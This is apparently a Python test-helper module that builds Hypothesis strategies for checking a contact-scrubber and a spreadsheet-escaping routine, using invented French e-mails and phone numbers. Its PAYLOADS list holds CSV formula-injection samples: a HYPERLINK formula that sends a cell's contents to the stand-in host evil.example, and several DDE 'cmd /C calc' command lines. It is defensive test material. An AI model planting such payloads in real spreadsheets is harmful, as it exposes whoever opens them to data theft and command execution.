"""Hypothesis strategies for hostile values: personal contacts in every spelling, hidden in
ordinary text, and cells a spreadsheet would run as formulas. The people are invented."""

from __future__ import annotations

from hypothesis import strategies as st

# Words the contacts hide among: no digits, no "@", none of the labels the scrubber removes
# with a contact ("tél", "mobile", "e-mail"…), none of the connectors it trims at the edges.
WORDS = [
    "Présidente",
    "Vice-président",
    "Trésorier",
    "directeur",
    "commercial",
    "Exempla",
    "SA",
    "SAS",
    "Témoinia",
    "Industrie",
    "M.",
    "Mme",
    "Jean-Marc",
    "ROYER",
    "Le",
    "Goff",
    "Société",
    "Énergie",
    "responsable",
    "export",
    "Asie",
    "chargée",
    "affaires",
    "Fictivia",
    "Logistique",
    "SARL",
]
# Values that are not contacts, though they hold digits, dots, at-signs or slashes.
NOT_CONTACTS = [
    "2019-2022",
    "31320 Castanet-Tolosan",
    "SIREN 123456789",
    "Art. 1er",
    "NOR : ECOT2333861D",
    "JORFTEXT000048601234",
    "1 250 conseillers",
    "12/03/2024",
    "2026-11-01",
    "+5 %",
    "75001 Paris",
    "@SUM",
    "x=1",
    "version 3.14.15",
    "n° 0290",
    "123 456 789 €",
    "meet at home",
    "3 rue du 8 Mai 1945",
]

NAMES = st.sampled_from(
    ["v.hamel", "marc.girard", "jean-marc.royer", "anne_martin", "s.girard", "c.picard42", "lefevre"]
)
DOMAINS = st.sampled_from(
    [
        ("orange", "fr"),
        ("gmail", "com"),
        ("exempla", "fr"),
        ("temoinia-industrie", "com"),
        ("mail.example", "org"),
        ("free", "fr"),
        ("wanadoo", "fr"),
    ]
)
AT = st.sampled_from(
    ["@", " @ ", " [at] ", "[at]", " (at) ", "(at)", " arobase ", " {at} ", "[@]", " [AT] ", " (chez) "]
)
DOT = st.sampled_from([".", " [dot] ", "[dot]", " (dot) ", " point ", "."])


@st.composite
def emails(draw) -> str:
    """A personal e-mail address, plain or obfuscated."""
    host, tld = draw(DOMAINS)
    dot = draw(DOT)
    return draw(NAMES) + draw(AT) + host.replace(".", dot) + dot + tld


def _groups(digits: str, sep: str) -> str:
    return sep.join(digits[i : i + 2] for i in range(0, len(digits), 2))


@st.composite
def phones(draw) -> str:
    """A phone number as people write it: French national or international forms, other countries."""
    first = draw(st.sampled_from("12345679"))
    rest = draw(st.text("0123456789", min_size=8, max_size=8))
    national = "0" + first + rest
    sep = draw(st.sampled_from([" ", ".", "-", "/", "", "\u00a0"]))
    form = draw(st.sampled_from(["national", "plus33", "plus33_0", "0033", "foreign"]))
    if form == "national":
        return _groups(national, sep)
    if form == "plus33":
        return "+33 " + first + " " + _groups(rest, sep or " ")
    if form == "plus33_0":
        return "+33 (0)" + first + " " + _groups(rest, " ")
    if form == "0033":
        return "0033 " + first + " " + _groups(rest, " ")
    return draw(
        st.sampled_from(
            [
                "+44 20 7946 0958",
                "+1 (415) 555-2671",
                "+49 30 901820",
                "+41 44 668 18 00",
                "+32 2 555 12 12",
                "+971 4 123 4567",
                "+86 10 1234 5678",
            ]
        )
    )


contacts = st.one_of(emails(), phones())
LABELS = st.sampled_from(["", "", "Tél. : ", "tél. ", "mobile ", "e-mail : ", "courriel : ", "Mél. ", "portable : "])
BRACKETS = st.sampled_from([("", ""), ("(", ")"), ("[", "]"), (", ", ""), (" - ", ""), ("<", ">")])


@st.composite
def text_with_contacts(draw) -> tuple[str, list[str], list[str]]:
    """``(text, contacts hidden in it, the ordinary words around them)``."""
    words = draw(st.lists(st.sampled_from(WORDS), min_size=1, max_size=6))
    hidden = draw(st.lists(contacts, min_size=1, max_size=3))
    pieces = list(words)
    for contact in hidden:
        opening, closing = draw(BRACKETS)
        at = draw(st.integers(0, len(pieces)))
        pieces.insert(at, f"{opening}{draw(LABELS)}{contact}{closing}")
    return " ".join(pieces), hidden, words


plain_text = st.lists(st.one_of(st.sampled_from(WORDS), st.sampled_from(NOT_CONTACTS)), max_size=6).map(" ".join)

# Cells a spreadsheet would evaluate (OWASP's list), and the payloads seen in the wild.
FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "+33536491010",
    "-",
    "=",
    "@",
]
formula_cells = st.one_of(
    st.sampled_from(PAYLOADS), st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), st.text(max_size=30))
)
safe_cells = st.text(max_size=30).filter(lambda t: not t.startswith(tuple(FORMULA_PREFIXES)))
